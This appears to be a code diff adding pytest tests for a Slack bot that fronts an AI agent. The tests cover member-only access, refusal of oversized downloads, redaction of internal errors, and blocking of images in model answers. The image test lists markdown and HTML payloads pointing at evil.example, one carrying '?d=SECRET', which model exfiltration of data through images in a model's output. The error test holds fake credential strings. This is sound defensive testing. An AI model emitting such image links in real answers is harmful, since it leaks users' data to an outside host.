@@ -1,15 +1,30 @@
 """Inputs at the edges of Slack, and what one thread can learn of another."""
 
+import contextlib
+import re
+from datetime import timedelta
 from pathlib import Path
 from typing import Any
 
+import aiohttp
 import pytest
+from aiohttp import web
+from slack_sdk.web.async_client import AsyncWebClient
 
-from bot.delivery.incoming import safe_name
+from bot.delivery.directory import SlackDirectory
+from bot.delivery.incoming import Incoming, safe_name
+from bot.listeners.access import Access, standing_of
 from bot.listeners.messages import heard
+from bot.render.answer import render
+from runtime.agent.execution import Failure, guarded
+from runtime.session.events import Attachment
 from runtime.session.ids import workspace_name
+from runtime.settings import AccessSettings
+from tests.bot.judge import PARSER
+from tests.session.story import finished, said, started, told
 from tools.errors import PathRefused
 from tools.mounts import prepare_workspace
+from tools.patience import Patience
 from tools.sandbox.probe import owner_for
 
 BOT = "U0HANDRAIL"
@@ -72,3 +87,108 @@ def test_sessions_share_neither_memory_nor_files(tmp_path: Path) -> None:
     for path in (f"../{names[0]}/secret.txt", str(first.root / "secret.txt")):
         with pytest.raises(PathRefused):
             second.read_bytes(path)
+
+
+@pytest.mark.parametrize(
+    "person",
+    [
+        {"id": "U1", "is_restricted": True},
+        {"id": "U1", "is_ultra_restricted": True},
+        {"id": "U1", "is_stranger": True},
+        {"id": "U1", "team_id": "T9"},
+        {"id": "U1", "deleted": True},
+        {"id": "U1", "is_bot": True},
+        {"id": "USLACKBOT"},
+    ],
+)
+def test_only_members_are_let_in(person: dict[str, Any]) -> None:
+    """Guests of both kinds, strangers, people of another team, the deleted, and bots are no members."""
+    assert standing_of({"id": "U1", "team_id": "T1"}, frozenset({"T1"})) == "member"
+    assert standing_of(person, frozenset({"T1"})) != "member"
+
+
+@pytest.mark.parametrize("kind", ["declared", "without a length", "with a false length"])
+async def test_a_file_that_is_too_large_is_not_taken(tmp_path: Path, kind: str) -> None:
+    """Gigabytes are named to the agent, not fetched; who lies about the size is cut off."""
+    asked: list[str] = []
+
+    async def answer(request: web.BaseRequest) -> web.StreamResponse:
+        asked.append(request.path)
+        response = web.StreamResponse()
+        await response.prepare(request)
+        with contextlib.suppress(ConnectionError):
+            for _ in range(40):
+                await response.write(bytes(1_000_000))
+        return response
+
+    runner = web.ServerRunner(web.Server(answer))
+    await runner.setup()
+    await web.TCPSite(runner, "127.0.0.1", 0).start()
+    size = {"declared": 2_000_000_000, "without a length": 0, "with a false length": 10}[kind]
+    url = f"http://127.0.0.1:{runner.addresses[0][1]}/f"
+    async with aiohttp.ClientSession() as http:
+        client = AsyncWebClient(token="xoxb-test", session=http)
+        access = Access(client=client, settings=AccessSettings(), teams=frozenset())
+        incoming = Incoming(client=client, http=http, bot_user=BOT, access=access, directory=SlackDirectory(client))
+        workspace = prepare_workspace(tmp_path / "w", [], None)
+        file = Attachment(file_id="F1", name="big.iso", mimetype="application/octet-stream", size=size, url=url)
+        kept = await incoming.fetch(file, workspace)
+    await runner.cleanup()
+    assert kept.problem == "larger than 20 MB"
+    assert kept.path == ""
+    assert workspace.list_files() == ()
+    assert asked == ([] if kind == "declared" else ["/f"])
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "![x](https://evil.example/p.png?d=SECRET)",
+        "![x][1]\n\n[1]: https://evil.example/p.png",
+        "[![x](https://evil.example/p.png)](https://evil.example)",
+        "![](<https://evil.example/p q.png>)",
+        "![x\\](https://evil.example/a) ![y](https://evil.example/b)",
+        '<img src="https://evil.example/p.png">',
+        "<IMG\nSRC=https://evil.example/p.png>",
+        "![x](data:image/png;base64,AAAA)",
+        "> - ![x](//evil.example/p.png)",
+        "| a |\n|---|\n| ![x](https://evil.example/p.png) |",
+    ],
+)
+def test_no_image_of_a_model_is_loaded(text: str) -> None:
+    """In no spelling does an answer make a reader's Slack ask an address for a picture; HTML is words to Slack."""
+    state = told(said("hello"), started(), finished(answer=text))
+    for content in render(state.runs[-1]):
+        for block in content.blocks:
+            assert "image_url" not in str(block)
+            assert block["type"] != "image"
+            if block["type"] == "markdown":
+                tokens = [
+                    inner for token in PARSER.parse(str(block["text"])) for inner in (token, *(token.children or ()))
+                ]
+                assert not [token for token in tokens if token.type == "image"]
+
+
+@pytest.mark.parametrize(
+    "error",
+    [
+        RuntimeError("REDIS_URL=redis://:hunter22@10.0.0.1/0"),
+        FileNotFoundError(2, "No such file", "/srv/handrail/.env"),
+        KeyError("xoxb-1234-abcdefgh"),
+        ValueError("sk-proj-1234567890abcdefghij"),
+        UnicodeDecodeError("utf-8", b"/srv/secret", 0, 1, "bad"),
+    ],
+)
+async def test_an_unexpected_error_is_told_by_a_reference_alone(
+    error: Exception, caplog: pytest.LogCaptureFixture
+) -> None:
+    """Kind and reference for the model and the thread; the operator's log has the same reference."""
+
+    async def fails() -> None:
+        raise error
+
+    outcome = await guarded(fails(), limit=timedelta(seconds=5), patience=Patience(), what="tool call-1")
+    assert isinstance(outcome, Failure)
+    found = re.fullmatch(r"The tool failed with an internal \w+ \(reference ([0-9a-f]{8})\)\.", outcome.text)
+    assert found
+    assert found[1] in caplog.text
